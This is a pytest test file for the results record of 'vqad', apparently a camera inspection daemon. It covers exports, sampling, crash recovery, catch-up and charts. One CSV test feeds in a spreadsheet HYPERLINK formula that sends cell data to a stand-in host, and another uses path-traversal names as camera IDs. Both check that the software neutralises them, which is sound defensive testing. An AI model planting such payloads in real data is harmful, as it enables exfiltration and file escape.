def test_a_record_is_named_by_url_or_by_path_and_a_missing_one_is_not_created(tmp_path, monkeypatch):
    db = tmp_path / "line.db"
    proc = run_vqad("records", db, check=False)
    assert proc.returncode == 3 and "no record at" in proc.stderr and not db.exists()
    proc = run_vqad("review", f"sqlite:///{db}", "cam1", "7", "--verdict", "false_reject", check=False)
    assert proc.returncode == 3 and not db.exists()
    for must_exist in (True, False):  # a folder named for the file: said, for a reader or the daemon
        with pytest.raises(DataError, match=f"{tmp_path} is a folder; a SQLite record is a file in one"):
            Record(f"sqlite:///{tmp_path}", must_exist=must_exist)
    Record(f"sqlite:///{db}")  # a writer (the daemon) creates it
    assert db.is_file()
    monkeypatch.chdir(tmp_path)
    with sqlite3.connect(db) as conn:
        conn.execute(
            "INSERT INTO results (camera_id, frame_id, ts_ns, status, decision, evidence_removed) "
            "VALUES ('cam1', 7, 1, 'ok', 'fail', 0)"
        )
    record = Record("line.db", must_exist=True)  # a relative path names the same file
    assert [r["frame_id"] for r in record.results()] == [7]
    record.review("cam1", 7, "false_reject")
    assert Record(str(db)).results()[0]["reviews"][0]["verdict"] == "false_reject"


def test_a_query_cut_by_its_limit_says_so_and_its_csv_stays_clean(tmp_path):
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev").start()
    for i in range(3):
        writer.put(_result("c", i, decision="pass"), time.time_ns())
    writer.close()
    cut = run_vqad("records", url, "--limit", "2", "--format", "csv")
    assert len(cut.stdout.splitlines()) == 3 and "there may be more (--limit N)" in cut.stderr
    whole = run_vqad("records", url, "--limit", "5", "--format", "csv")
    assert len(whole.stdout.splitlines()) == 4 and "--limit" not in whole.stderr


def test_a_sample_of_the_lines_frames_holds_its_rejects_in_the_share_the_line_rejected(tmp_path, record_url):
    """`--export-sample`, the good images a threshold is recalibrated on: passes alone would lack
    every good part that scored over the threshold in force, and set a lower one. Per camera,
    `--limit` passes with their frames kept, spread over the period, and the rejects in the
    line's share (a false reject among them); results reviewed as defects left out."""
    url = record_url
    writer = RecordWriter(url, tmp_path / "ev", pass_fraction=1.0).start()
    t0 = time.time_ns() - 60 * 10**9
    for i in range(25):  # 20 passes, one without its frame, then 4 rejects
        result = _result("cam1", i, decision="pass" if i <= 20 else "fail", ts_ns=t0 + i * 10**8)
        result.frame = None if i == 20 else result.frame
        writer.put(result, time.time_ns())
    for i in range(2):
        writer.put(_result("cam 2", i, decision="pass", ts_ns=t0 + 10 * 10**9 + i), time.time_ns())
    # Neither the shift's master parts (a red rabbit that wrongly passed among them) nor a frame
    # the camera health gate failed is a part of the line's to calibrate on.
    for i, (part, decision) in enumerate([("OK-1", "pass"), ("RR-1", "pass"), ("RR-2", "fail")], start=2):
        master = _result("cam 2", i, decision=decision, ts_ns=t0 + 10 * 10**9 + i)
        master.header.update(part_id=part, master={"expected": "pass" if part.startswith("OK") else "fail",
                                                   "ok": part != "RR-1"})  # fmt: skip
        writer.put(master, time.time_ns())
    dark = _result(
        "cam 2", 5, decision="fail", ts_ns=t0 + 10 * 10**9 + 5, health={"ok": False, "reasons": ["exposure"]}
    )
    writer.put(dark, time.time_ns())
    blind = _result("cam3", 0, decision="pass", ts_ns=t0)
    blind.frame = None  # a camera none of whose passes kept its frame
    writer.put(blind, time.time_ns())
    writer.close()
    record = Record(url)
    record.review("cam1", 8, "defect", kind="scratch", by="ann")  # a miss found later
    record.review("cam1", 24, "defect", kind="dent", by="ann")
    record.review("cam1", 21, "false_reject", by="ann")
    out = tmp_path / "line_good"
    proc = run_vqad("records", url, "--export-sample", out, "--camera", "cam1", "--limit", "10")
    # 10 of the 20 kept passes, spread; round(10 x 4 / 21) = 2 of the 4 rejects, spread: 21 and 24
    passes = [f"cam1_{i}_pass.png" for i in (0, 2, 4, 6, 11, 13, 15, 17, 19)]  # and 8, reviewed a defect
    assert sorted(p.name for p in (out / "cam1").iterdir()) == sorted([*passes, "cam1_21_fail.png"])
    assert [p.name for p in out.iterdir()] == ["cam1"]
    row = record.results(camera="cam1", frame_id=21)[0]
    assert (out / "cam1" / "cam1_21_fail.png").read_bytes() == Path(row["evidence"]).read_bytes()
    assert (f"cam1: 9 passes and 1 reject -> {out / 'cam1'} (the line passed 21 and rejected 4 in the period, and "
            "kept the frames of 20 passes; left out: 2 reviewed as defects)") in proc.stdout  # fmt: skip
    assert f"then vqad calibrate MODEL {out / 'cam1'}" in proc.stdout and "ends in _fail" in proc.stdout
    everything = tmp_path / "all"
    proc = run_vqad("records", url, "--export-sample", everything)
    assert sorted(p.name for p in everything.iterdir()) == ["cam1", "cam_2"]
    assert sorted(p.name for p in (everything / "cam_2").iterdir()) == ["cam_2_0_pass.png", "cam_2_1_pass.png"]
    assert len(list((everything / "cam1").iterdir())) == 19 + 3  # 20 passes, round(20 x 4 / 21) = 4 rejects; 2 out
    assert f"then vqad calibrate MODEL {everything / 'CAMERA'}" in proc.stdout
    assert "cam3: the line passed 1 in the period and kept the frame of none" in proc.stdout
    late = dt.datetime.fromtimestamp((t0 + 5 * 10**9) / 1e9, dt.timezone.utc).isoformat()
    proc = run_vqad("records", url, "--export-sample", tmp_path / "late", "--since", late)
    assert [p.name for p in (tmp_path / "late").iterdir()] == ["cam_2"]
    assert "cam 2: 2 passes and 0 rejects" in proc.stdout
    for camera in ("cam3", "cam4"):  # none kept, none at all
        proc = run_vqad("records", url, "--export-sample", tmp_path / "none", "--camera", camera)
        assert "no pass in the period has its frame kept" in proc.stdout and not (tmp_path / "none").exists()
    engine = sa.create_engine(url)  # the evidence quota removed two rejects' frames
    with engine.begin() as conn:
        conn.execute(sa.update(results).where(results.c.frame_id.in_([22, 23])).values(evidence_removed=True))
    engine.dispose()
    proc = run_vqad("records", url, "--export-sample", tmp_path / "quota", "--camera", "cam1")
    assert "; 2 of the rejects wanted have lost their frames)" in proc.stdout, proc.stdout
    refused = run_vqad("records", url, "--export-sample", tmp_path / "x", "--decision", "pass", check=False)
    assert refused.returncode == 2 and "--export-sample exports a sample of the line's frames" in refused.stderr
    refused = run_vqad("records", url, "--export-sample", tmp_path / "x", "--export-reviewed", tmp_path / "y",
                       check=False)  # fmt: skip
    assert refused.returncode == 2 and "one at a time" in refused.stderr
    assert not (tmp_path / "x").exists() and not (tmp_path / "y").exists()


def test_spread_evenly_takes_the_first_and_the_last_and_no_place_twice():
    assert store.spread_evenly(list(range(10)), 4) == [0, 3, 6, 9]
    assert store.spread_evenly(list(range(5)), 5) == list(range(5)) and store.spread_evenly([1, 2], 9) == [1, 2]
    assert store.spread_evenly(list(range(7)), 1) == [6]
    for n in range(2, 60):
        for k in range(2, n):
            picked = store.spread_evenly(list(range(n)), k)
            assert len(set(picked)) == k and picked[0] == 0 and picked[-1] == n - 1


def test_the_csv_shows_a_formula_from_the_wire_as_text_and_keeps_its_columns(tmp_path):
    """A part label read `=HYPERLINK(...)` and a camera named `@cam,1`: a spreadsheet opening the
    CSV would run the one and split the other. The CSV writes them as text, the JSON as they are."""
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev").start()
    formula = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    for i, part in enumerate((formula, "-5", "SN-7")):
        result = _result("@cam,1", i, decision="pass")
        result.header["part_id"] = part
        writer.put(result, time.time_ns())
    writer.close()
    Record(url).review("@cam,1", 0, "defect", kind="+crack", by="=ann")
    rows = list(csv.DictReader(run_vqad("records", url, "--format", "csv").stdout.splitlines()))
    by_frame = {int(r["frame_id"]): r for r in rows}
    assert {r["camera_id"] for r in rows} == {"'@cam,1"}
    assert [by_frame[i]["part_id"] for i in range(3)] == ["'" + formula, "'-5", "SN-7"]
    assert by_frame[0]["reviews"] == "defect:+crack:=ann"  # starts with its verdict: no formula
    assert all(float(r["score"]) == 0.5 and r["time"][:2] == "20" for r in rows)  # numbers stay numbers
    daily = list(csv.DictReader(run_vqad("records", url, "--daily", "--format", "csv").stdout.splitlines()))
    assert [(d["camera_id"], d["results"], d["missed"]) for d in daily] == [("'@cam,1", "3", "1")]
    (as_json,) = json.loads(run_vqad("records", url, "--frame-id", "0", "--format", "json").stdout)
    assert as_json["camera_id"] == "@cam,1" and as_json["part_id"] == formula


def test_a_restart_onto_another_record_does_not_count_the_previous_runs_results_as_missing(tmp_path, caplog):
    """The state folder (the model's by default) outlives a change of record: a daemon started
    on a new database said that every result of the previous run, stored in the old one, had no
    row."""
    state = tmp_path / "vqad-serve.record.json"
    first = RecordWriter(f"sqlite:///{tmp_path / 'old.db'}", tmp_path / "ev", state_file=state).start()
    for i in range(3):
        first.put(_result("c", i, decision="pass"), time.time_ns())
    first.close()
    with caplog.at_level(logging.INFO, logger="edge.record.writer"):
        RecordWriter(f"sqlite:///{tmp_path / 'new.db'}", tmp_path / "ev", state_file=state).start().close()
    assert "have no row" not in caplog.text
    assert f"the previous run of the daemon recorded to sqlite:///{tmp_path / 'old.db'}, not here" in caplog.text
    # The same place, another record: the file deleted and started again (as `make demo` does), or
    # one put back from a copy. The rows counted are the previous run's in the record it wrote.
    caplog.clear()
    (tmp_path / "new.db").unlink()
    with caplog.at_level(logging.INFO, logger="edge.record.writer"):
        RecordWriter(f"sqlite:///{tmp_path / 'new.db'}", tmp_path / "ev", state_file=state).start().close()
    assert "have no row" not in caplog.text
    assert "the previous run of the daemon recorded to another record at sqlite:///" in caplog.text, caplog.text
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="edge.record.writer"):  # the same record again: counted
        writer = RecordWriter(f"sqlite:///{tmp_path / 'new.db'}", tmp_path / "ev", state_file=state).start()
    writer.put(_result("c", 9, decision="pass"), time.time_ns())
    writer.close()
    assert "the previous run's 0 results are all recorded" in caplog.text, caplog.text
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="edge.record.writer"):
        RecordWriter(f"sqlite:///{tmp_path / 'new.db'}", tmp_path / "ev", state_file=state).start().close()
    assert "the previous run's 1 results are all recorded" in caplog.text, caplog.text


def test_the_count_of_results_handed_is_kept_while_a_slow_batch_writes_its_evidence(tmp_path, monkeypatch, caplog):
    """The state file's count was written before each transaction only: a daemon killed while a
    batch of fails wrote its evidence (a second or more for large frames) left the results handed
    meanwhile uncounted, and the next start said the previous run's results were all recorded
    while 29 had no row. The count is kept while the batch is written; a run that did not stop
    is said to have counted only what it had."""
    state = tmp_path / "vqad-serve.record.json"
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev", state_file=state).start()
    row = writer._row
    monkeypatch.setattr(writer, "_row", lambda *args: (time.sleep(0.1), row(*args))[1])  # 0.1 s of evidence a row
    for i in range(20):
        writer.put(_result("c", i), time.time_ns())
    handed = lambda: json.loads(state.read_text())["handed"] if state.is_file() else 0  # noqa: E731
    assert wait_for(lambda: handed() == 20, 5), handed()  # the batch of 20 is being written
    for i in range(20, 25):  # published while it is
        writer.put(_result("c", i), time.time_ns())
    assert wait_for(lambda: handed() == 25 and writer.recorded == 0, 1.5), (handed(), writer.recorded)
    writer.close()
    assert json.loads(state.read_text())["closed"] is True and writer.recorded == 25
    # A run that ended without its close (killed): its count is what it had kept.
    kept = {**json.loads(state.read_text()), "closed": False}
    state.write_text(json.dumps(kept))
    with caplog.at_level(logging.INFO, logger="edge.record.writer"):
        RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev", state_file=state).start().close()
    said = "the previous run's 25 results counted before it ended are all recorded; it ended without stopping"
    assert said in caplog.text and "are all recorded\n" not in caplog.text, caplog.text
    # One whose count holds 5 more than its rows: the start's row will name them (daemon.start).
    state.write_text(json.dumps({**kept, "handed": 30}))
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev", state_file=state).start()
    writer.close()
    assert writer.previous_lost == {"run": kept["run"], "without_row": 5}, writer.previous_lost


def test_kill_9_mid_stream_leaves_an_intact_record_and_the_restart_counts_what_is_missing(tiny_model, tmp_path):
    db = tmp_path / "line.db"
    url = f"sqlite:///{db}"
    daemon = DaemonProcess(tiny_model, "--record", url).start()
    cam = Camera(daemon.frames)
    try:
        frame = np.full((48, 48, 3), 90, np.uint8)
        # Then noise, which the camera health gate fails: each fail writes its evidence (a 256 x 256
        # PNG and its overlay, synced), and the writer falls behind the camera.
        noise = (np.random.default_rng(0).random((256, 256, 3)) * 255).astype(np.uint8)
        for i in range(400):
            cam.send(frame_message("cam9", i, frame if i <= 200 else noise, "raw"))
            if i == 200:
                deadline = time.monotonic() + 20
                while time.monotonic() < deadline and _count(url) == 0:
                    time.sleep(0.05)
        time.sleep(0.5)  # the frames in, most decided; some of their rows not yet committed
        daemon.proc.kill()  # kill -9, mid-stream
        daemon.proc.wait(timeout=10)
    finally:
        cam.close()
    with sqlite3.connect(db) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        rows = conn.execute("SELECT COUNT(*) FROM results").fetchone()[0]
    assert rows > 0
    state = json.loads((daemon.dir / "vqad-serve.record.json").read_text())
    assert state["handed"] >= rows  # at most the uncommitted batch and the buffer were lost
    assert state["after_id"] == 0  # the run's rows follow it: the restart counts from there
    with DaemonProcess(tiny_model, "--record", url, ipc_dir=daemon.dir) as again:
        pass
    text = again.log_text()
    expected = state["handed"] - rows
    print(f"handed {state['handed']}, committed {rows} before the kill")  # how much the journal put back
    # Each result handed to the writer is in its journal: the rows it had not committed are put
    # back (without their images), and the record holds every one.
    with sqlite3.connect(db) as conn:
        kept = conn.execute("SELECT COUNT(*) FROM results WHERE daemon_run = ?", (state["run"],)).fetchone()[0]
    assert kept >= state["handed"], (kept, state)  # the journal may hold more than the count last kept
    # The record's changes tell the audit when the line was inspected: the killed run has no stop,
    # and the next start says the run before it ended without one.
    # (Its frames' fails may raise and clear cam9's fail-rate alarm among them: not the daemon's runs.)
    changes = [(e["kind"], e["by"], e["detail"]) for e in Record(url).events() if e["kind"] in ("start", "stop")][::-1]
    assert [(kind, by) for kind, by, _ in changes] == [("start", "vqad serve")] * 2 + [("stop", "vqad serve")]
    first, second, stop = (detail for _, _, detail in changes)
    assert first["previous_exit"] == "clean" and second["previous_exit"] == "unclean"
    assert first["run"] != second["run"] == stop["run"] and second["model"]["sha256"] == first["model"]["sha256"]
    assert stop["cause"] == "SIGTERM" and stop["published"] == stop["accepted"]  # frames the camera had queued
    table = run_vqad("records", db, "--daily").stdout  # in words, as the dashboard says them
    assert first["vqad_version"] == vqad_version()  # an upgrade of the box shows in the audit
    model = f"{second['model']['name']} {second['model']['sha256'][:12]}"
    started = (f"vqad {vqad_version()} serve run {second['run'][:12]} started: model {model}, threshold "
               f"{second['threshold']:.6g}; ")  # fmt: skip
    assert started in table and "ended without stopping (killed" in table
    assert f"vqad serve run {second['run'][:12]} stopped (SIGTERM) after {stop['published']} results" in table, table
    # The results the killed run had counted without their rows: in the record's start row,
    # for an audit that reads the record, not the box's log.
    assert "previous_results_without_row" not in second, second
    recovered = (second.get("previous_results_recovered") or {}).get("recovered", 0)
    assert kept == rows + recovered and recovered >= expected, (kept, rows, second)
    if recovered:
        assert second["previous_results_recovered"]["run"] == first["run"], second
        assert f"; {recovered} results of the run before it put back from its journal" in table, table
        assert f"before {recovered} of its results were committed: their rows are put back" in text, text[-2000:]
        # Each row put back says so, where its missing images are read: the table and the CSV.
        with sqlite3.connect(db) as conn:
            marked = conn.execute("SELECT COUNT(*) FROM results WHERE recovered_ns IS NOT NULL").fetchone()[0]
        assert marked == recovered, (marked, recovered)
        listed = run_vqad("records", db, "--limit", "1000").stdout
        assert listed.count(" (put back from its run's journal)") == recovered, listed[-2000:]
        as_csv = csv.DictReader(run_vqad("records", db, "--limit", "1000", "--format", "csv").stdout.splitlines())
        assert sum(bool(r["recovered"]) for r in as_csv) == recovered
    assert f"the previous run's {kept} results are all recorded" in text, text[-2000:]


def test_a_slow_subscriber_loses_results_and_the_record_keeps_them_all(tiny_model, tmp_path):
    """A subscriber that reads one result per 50 ms through a one-message queue, while the
    daemon publishes as fast as it scores (its send queue kept short too): PUB drops what the
    subscriber cannot take; the record has every result. The subscriber knows how many it
    missed by the gaps in `seq`, and the record gives it exactly those, in the order published."""
    import zmq

    from edge.watch import Summary

    url = f"sqlite:///{tmp_path / 'line.db'}"
    n = 80
    with DaemonProcess(tiny_model, "--record", url, "--set", "edge.sndhwm=2") as daemon:
        sub = zmq.Context.instance().socket(zmq.SUB)
        sub.setsockopt(zmq.RCVHWM, 1)
        sub.setsockopt(zmq.SUBSCRIBE, b"result.")
        sub.connect(daemon.results)
        time.sleep(0.3)
        cam = Camera(daemon.frames)
        got, summary = [], Summary()
        try:
            for i in range(n):
                cam.send(frame_message("slow", i, np.full((64, 64, 3), 80, np.uint8), "raw"))
            deadline = time.monotonic() + 20
            # Until every result is recorded and the subscriber's queue is drained: the results
            # it still holds then, published after the ones dropped, show the gap.
            while time.monotonic() < deadline:
                recorded = _count(url) >= n
                if sub.poll(500 if recorded else 10):
                    got.append(json.loads(sub.recv_multipart()[1]))
                    summary.add(got[-1])
                    time.sleep(0.05)  # the slow consumer
                elif recorded:
                    break
        finally:
            cam.close()
            sub.close(linger=0)
    assert _count(url) == n
    assert len(got) < n  # the subscriber missed some: the record did not depend on it
    run, seqs = got[0]["run"], [h["seq"] for h in got]
    assert {h["run"] for h in got} == {run} and seqs == sorted(set(seqs)) and seqs[-1] < n
    assert summary.missed == seqs[-1] - seqs[0] + 1 - len(got) > 0  # what it can tell from the gaps alone
    caught_up = Record(url).results(run=run, after_seq=seqs[0], limit=n)
    assert [r["seq"] for r in caught_up] == list(range(seqs[0] + 1, n))  # every one after it, in order
    assert [r["frame_id"] for r in caught_up] == list(range(seqs[0] + 1, n))  # one camera, sent in order
    read = {h["seq"]: (h["camera_id"], h["frame_id"]) for h in got}
    assert all((r["camera_id"], r["frame_id"]) == read[r["seq"]] for r in caught_up if r["seq"] in read)
    printed = run_vqad("records", url, "--run", run, "--after-seq", str(seqs[0]), "--limit", "5", "--format", "json")
    assert [r["seq"] for r in json.loads(printed.stdout)] == list(range(seqs[0] + 1, min(seqs[0] + 6, n)))


def test_a_catch_up_follows_the_order_published_whatever_the_capture_times_and_pages_by_seq(tmp_path, record_url):
    """Two cameras, one's clock minutes behind the other's, in one run; a second run beside it.
    The run's results after a seq come in the order published, and an export pages by seq."""
    writer = RecordWriter(record_url, tmp_path / "ev", run_id="run-a").start()
    now = time.time_ns()
    published = []
    for seq in range(7):  # cam1's capture times 120 s behind cam0's
        camera = f"cam{seq % 2}"
        r = _result(camera, seq, "pass", ts_ns=now + seq * 10**6 - (120 * 10**9 if camera == "cam1" else 0))
        r.header.update(run="run-a", seq=seq)
        published.append((camera, seq))
        writer.put(r, time.time_ns())
    wait_for(lambda: writer.recorded == 7, 10)
    writer.close()
    writer = RecordWriter(record_url, tmp_path / "ev", run_id="run-b").start()  # the daemon started again
    other = _result("cam0", 99, "pass")
    other.header.update(run="run-b", seq=0)
    _store(writer, other)
    writer.close()
    record = Record(record_url)
    caught_up = record.results(run="run-a", after_seq=1, limit=100)
    assert [(r["camera_id"], r["seq"]) for r in caught_up] == published[2:]  # not by capture time
    paged = list(record.iter_results(100, page=2, run="run-a", after_seq=-1))
    assert [r["seq"] for r in paged] == list(range(7))
    assert [r["seq"] for r in record.results(run="run-b", after_seq=-1)] == [0]
    with pytest.raises(ValueError, match="name its run"):
        record.results(after_seq=3)
    # Where each run's results end, on stderr, as /api/results' run_published says it.
    said = run_vqad("records", record_url, "--run", "run-a", "--after-seq", "5", "--format", "json")
    assert [r["seq"] for r in json.loads(said.stdout)] == [6]
    assert "run run-a has no stop row: it serves still, or it ended without one" in said.stderr
    writer = RecordWriter(record_url, tmp_path / "ev", run_id="run-a").start()
    writer.close(last_change=("stop", {"run": "run-a", "published": 7}, "vqad serve"))
    said = run_vqad("records", record_url, "--run", "run-a", "--after-seq", "6", "--format", "json")
    assert json.loads(said.stdout) == [] and "run run-a stopped after publishing 7 results: seq 0 to 6" in said.stderr


def test_names_from_the_wire_or_a_reviewer_stay_inside_their_folders(tmp_path):
    """Camera ids are any printable text and a defect's kind is what a person typed: as file and
    folder names they must not climb out of the evidence folder or the export."""
    url = f"sqlite:///{tmp_path / 'line.db'}"
    evidence, out = tmp_path / "deep" / "ev", tmp_path / "deep" / "out"
    writer = RecordWriter(url, evidence).start()
    cameras = ["..", "../../x", "a/b"]
    for i, camera in enumerate(cameras):
        writer.put(_result(camera, i), time.time_ns())
    wait_for(lambda: writer.recorded == len(cameras))
    writer.close()
    rows = Record(url).results(limit=10)
    files = [Path(r["evidence"]).resolve() for r in rows]
    assert len(files) == 3 and all(f.is_file() and f.is_relative_to(evidence.resolve()) for f in files), files
    record = Record(url)
    record.review("..", 0, "defect", kind="../../escaped")
    record.review("../../x", 1, "defect", kind="good")  # the MVTec layout's good images' folder
    record.review("a/b", 2, "false_reject")
    counts = record.export_reviewed(out)
    assert counts == {"test/.._.._escaped": 1, "test/defect": 1, "train/good": 1}, counts
    exported = sorted(p.relative_to(out).as_posix() for p in out.rglob("*.png"))
    assert exported == ["test/.._.._escaped/___0.png", "test/defect/.._.._x_1.png", "train/good/a_b_2.png"]
    assert sorted(p.name for p in (tmp_path / "deep").iterdir()) == ["ev", "out"]


def test_a_postgresql_record_without_its_driver_says_which_extra_to_install(tiny_model):
    """A box installed with `vqad[edge]` alone has no psycopg: a PostgreSQL record is refused at
    the start with the extra that brings it, and the URL's password is not shown."""
    import sys

    from tests.conftest import ROOT

    code = (
        "import sys; sys.modules['psycopg'] = None; from vqad.cli import main; "
        f"sys.exit(main(['serve', {str(tiny_model)!r}, '--record', 'postgresql://qa:s3cret@127.0.0.1:1/line', "
        "'--check']))"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.returncode != 0 and "pip install 'vqad[postgresql]'" in proc.stderr, proc.stderr
    assert "s3cret" not in proc.stderr and "Traceback" not in proc.stderr


def test_times_are_read_as_programs_write_them():
    """`--since`/`until` and the API's since/until: ISO 8601 with an offset, a trailing Z (what
    JavaScript's toISOString and most programs write; Python 3.10's fromisoformat refuses it),
    or none (the line's zone); or as long ago as "7d" (an audit of the last week)."""
    from zoneinfo import ZoneInfo

    from edge.record.store import parse_time

    utc8 = dt.datetime(2026, 12, 3, 8, tzinfo=dt.timezone.utc).timestamp() * 1e9
    for text in ("2026-12-03T08:00:00Z", "2026-12-03T08:00:00.000Z", "2026-12-03T08:00:00z",
                 "2026-12-03T09:00:00+01:00", "2026-12-03 08:00"):  # fmt: skip
        assert parse_time(text) == int(utc8), text
    assert parse_time("2026-12-03 09:00", ZoneInfo("Europe/Berlin")) == int(utc8)
    assert parse_time(None) is None
    for ago, seconds in (("7d", 7 * 86400), ("24h", 86400), ("30m", 1800), ("90s", 90), ("1.5h", 5400)):
        assert abs(time.time_ns() - seconds * 10**9 - parse_time(ago)) < 5 * 10**9, ago  # as long ago
    for bad in ("", "Z", "yesterday", "2026-13-01", "7 days", "-3d"):
        with pytest.raises(DataError, match="not an ISO 8601 time, nor one as long ago as 7d"):
            parse_time(bad)


class _PowerCut(BaseException):
    """The box loses power: the writer's thread stops where it is."""


@pytest.mark.parametrize("cut", ["before the commit", "after the commit"])
def test_a_power_cut_leaves_no_evidence_that_no_row_names(cut, tmp_path, monkeypatch, caplog):
    """Evidence is on the disk before its rows commit; a cut between the two left files that no
    row named, outside expiry and in the quota's count for good. The state file lists the batch's
    files before they are written: the next start removes those whose rows are not there."""
    from edge.record import writer as writer_module

    url, evidence, state = f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev", tmp_path / "record.json"
    first = RecordWriter(url, evidence, state_file=state).start()
    first.put(_result("c", 0), time.time_ns())
    assert wait_for(lambda: first.recorded == 1)

    def power_cut(*args, **kwargs):
        raise _PowerCut

    if cut == "before the commit":
        monkeypatch.setattr(writer_module, "sync_folders", power_cut)  # after the files, before the rows
    else:
        monkeypatch.setattr(first.house, "run", power_cut)  # after the rows, before the next batch
    stopped = []
    monkeypatch.setattr(threading, "excepthook", lambda hook: stopped.append(hook.exc_type))
    with first.lock:  # one batch
        first.put(_result("c", 1), time.time_ns())
        first.put(_result("c", 2), time.time_ns())
    first.thread.join(10)
    assert stopped == [_PowerCut] and len(list(evidence.rglob("*.png"))) == 3
    first.engine.dispose()
    monkeypatch.undo()

    with caplog.at_level(logging.INFO, "edge.record.writer"):
        RecordWriter(url, evidence, state_file=state).start().close()
    with sa.create_engine(url).connect() as conn:
        named = set(conn.execute(sa.select(results.c.evidence_frame)).scalars())
    on_disk = {str(p) for p in evidence.rglob("*.png")}
    assert on_disk == named and len(named) == (1 if cut == "before the commit" else 3)
    removed = "removed 2 evidence files of the previous run that no row names"
    assert (removed in caplog.text) == (cut == "before the commit"), caplog.text


def test_a_result_left_out_after_its_evidence_was_written_leaves_no_file(tmp_path):
    """A result that fails to become a row once its images are on the disk (here a malformed
    health report) is counted unrecorded, and its images go with it."""
    url, evidence = f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev"
    writer = RecordWriter(url, evidence, max_gb=1.0).start()
    writer.put(_result("c", 0, health={"ok": False, "reasons": 5}), time.time_ns())
    assert wait_for(lambda: writer.unrecorded == 1)
    writer.put(_result("c", 1), time.time_ns())
    assert wait_for(lambda: writer.recorded == 1)
    writer.close()
    (row,) = Record(url).results(limit=10)
    assert [str(p) for p in evidence.rglob("*.png")] == [row["evidence"]]
    assert writer.evidence_bytes == Path(row["evidence"]).stat().st_size


def _day_row(day: str, passes: int, model: str = "ab" * 32, **fails: int) -> dict:
    """A row of Record.daily for camera "cam0": `fails` by what they were (defect, false_reject,
    unreviewed, unfit, master)."""
    found = {k: fails.get(k, 0) for k in ("defect", "false_reject", "unreviewed", "unfit", "master")}
    products_failed = sum(found.values()) - found["master"]  # the master parts passed none here
    return {"day": day, "camera_id": "cam0", "model_sha256": model, "pass": passes, "fail": sum(found.values()),
            "fails": found, "products_decided": passes + products_failed,
            "products_failed": products_failed}  # fmt: skip


def test_the_daily_picture_draws_each_days_fail_rate_split_by_what_reviews_found():
    """A bar a day, as tall as its products' fail rate (the tally's) and split by its fails'
    verdicts; a day without results is a gap; a day whose model is not the day before's is
    marked and named. A shift's master parts are no products: a camera whose products all
    passed was drawn at a fail rate of 2.48%, all of it master parts, beside a tally of 0%."""
    from edge.record.trend import LEFT, MODEL_LINE, PANEL_HEIGHT, PARTS, RIGHT, TITLE_HEIGHT, daily_picture

    rows = [
        _day_row("2026-12-01", 98, defect=2),  # 2%
        _day_row("2026-12-03", 80, false_reject=10, unreviewed=10),  # 20%, the 2nd without results
        _day_row("2026-12-04", 90, model="cd" * 32, defect=5, unfit=3, master=2),  # 8 of 98, another model
        _day_row("2026-12-05", 95, master=5),  # 0%: the master parts' fails are no products'
    ]
    image = daily_picture(rows, "fail rate per day")
    assert image.shape[0] == TITLE_HEIGHT + PANEL_HEIGHT
    step = (image.shape[1] - LEFT - RIGHT) / 5
    colours = {key: np.array(colour, np.uint8) for key, _, colour in PARTS}

    def column(n: int, key: str) -> int:
        """Pixels of `key`'s colour in day n's bar."""
        middle = int(LEFT + (n + 0.5) * step)
        return int((image[TITLE_HEIGHT:, middle] == colours[key]).all(axis=1).sum())

    assert column(0, "defect") > 0 and column(1, "defect") == column(1, "unreviewed") == 0  # the gap
    assert column(2, "false_reject") + column(2, "unreviewed") > 8 * column(0, "defect")  # 20% against 2%
    assert abs(column(2, "false_reject") - column(2, "unreviewed")) <= 1
    assert column(3, "defect") > 0 and column(3, "unfit") > 0
    assert abs(sum(column(3, key) for key, _, _ in PARTS) - column(0, "defect") * (8 / 98) / (2 / 100)) <= 5
    assert sum(column(4, key) for key, _, _ in PARTS) == 0  # nothing drawn for the master parts'
    assert "master" not in colours
    model_colour = np.array(MODEL_LINE, np.uint8)
    edge = int(LEFT + 3 * step)
    assert (image[TITLE_HEIGHT:, edge - 2 : edge + 1] == model_colour).all(axis=2).sum() > 20  # where it began
    assert not (image[TITLE_HEIGHT:, int(LEFT + 2 * step) - 1] == model_colour).all(axis=1).any()


def test_records_daily_draws_its_picture_and_refuses_one_it_cannot_name(tmp_path):
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev").start()
    for i, decision in enumerate(["fail", "pass", "pass", "fail"]):
        writer.put(_result("cam0", i, decision, ts_ns=time.time_ns() - 86400 * 10**9 * (i % 2)), time.time_ns())
    writer.close()
    shown = run_vqad("records", url, "--daily", "--picture", tmp_path / "pictures" / "days.png")
    assert f"picture: {tmp_path / 'pictures' / 'days.png'}" in shown.stdout
    assert cv2.imread(str(tmp_path / "pictures" / "days.png")).shape[1] >= 640
    as_json = run_vqad("records", url, "--daily", "--format", "json", "--picture", tmp_path / "d.png")
    assert json.loads(as_json.stdout)["days"] and "picture:" in as_json.stderr  # stdout stays JSON
    refused = run_vqad("records", url, "--daily", "--picture", tmp_path / "days.txt", check=False)
    assert refused.returncode == 2 and "--picture is an image file" in refused.stderr
    refused = run_vqad("records", url, "--picture", tmp_path / "days.png", check=False)
    assert refused.returncode == 2 and "--picture draws the days of --daily" in refused.stderr
    refused = run_vqad("records", url, "--daily", "--picture", "/proc/days.png", check=False)
    assert refused.returncode == 7
